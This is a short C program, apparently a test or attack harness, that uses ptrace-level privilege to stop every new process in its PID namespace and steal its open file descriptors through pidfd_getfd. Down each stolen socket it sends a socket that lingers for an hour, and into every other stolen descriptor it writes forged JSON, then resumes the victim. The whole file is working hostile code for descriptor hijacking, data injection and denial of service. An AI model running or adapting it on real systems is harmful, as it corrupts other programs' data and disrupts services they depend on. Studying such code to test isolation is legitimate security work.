/* hijack: with CAP_SYS_PTRACE, stops every process that appears in its PID namespace and takes whatever descriptors it has beyond 2.
 * Down each socket among them it sends a TCP socket that takes an hour to be closed; into each other one it writes nonsense, and from
 * then on it holds all of them. Prints "stole FD TARGET" and "sent RESULT ERRNO". The stopped process goes on after a tenth of a second. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

static int slow_to_close(void) {
    static char data[1 << 16];
    struct linger linger = {1, 3600};
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t length = sizeof address;
    int listener = socket(AF_INET, SOCK_STREAM, 0), client = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (bind(listener, (void *)&address, sizeof address) || listen(listener, 1)) return -1;
    getsockname(listener, (void *)&address, &length);
    connect(client, (void *)&address, sizeof address);
    if (accept(listener, 0, 0) < 0) return -1;
    while (write(client, data, sizeof data) > 0) continue;
    fcntl(client, F_SETFL, 0);
    setsockopt(client, SOL_SOCKET, SO_LINGER, &linger, sizeof linger);
    return client;
}

static void send_descriptor(int line) {
    char control[CMSG_SPACE(sizeof(int))] = {0};
    struct iovec data = {"12345678", 8};
    struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    int slow = slow_to_close();
    header->cmsg_level = SOL_SOCKET, header->cmsg_type = SCM_RIGHTS, header->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(header), &slow, sizeof slow);
    long result = sendmsg(line, &message, MSG_DONTWAIT | MSG_NOSIGNAL);
    printf("sent %ld %d\n", result, errno);
    close(slow);
}

static void rob(int pid) {
    int process = syscall(SYS_pidfd_open, pid, 0);
    for (int fd = 3; process >= 0 && fd < 40; fd++) {
        char name[64], target[128] = {0};
        int type, stolen = syscall(SYS_pidfd_getfd, process, fd, 0);
        socklen_t length = sizeof type;
        if (stolen < 0) continue;
        snprintf(name, sizeof name, "/proc/self/fd/%d", stolen);
        if (readlink(name, target, sizeof target - 1) < 0) continue;
        printf("stole %d %s\n", fd, target);
        if (getsockopt(stolen, SOL_SOCKET, SO_TYPE, &type, &length) == 0)
            send_descriptor(stolen);
        else if (write(stolen, "{\"error\": 5}", 12) < 0)
            printf("not written %d\n", errno);
    }
}

int main(void) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    printf("ready\n");
    for (int last = getpid();;) {
        for (int pid = last + 1; pid < last + 8; pid++) {
            if (kill(pid, SIGSTOP)) continue;
            last = pid;
            rob(pid);
            usleep(100000);
            kill(pid, SIGCONT);
        }
    }
}
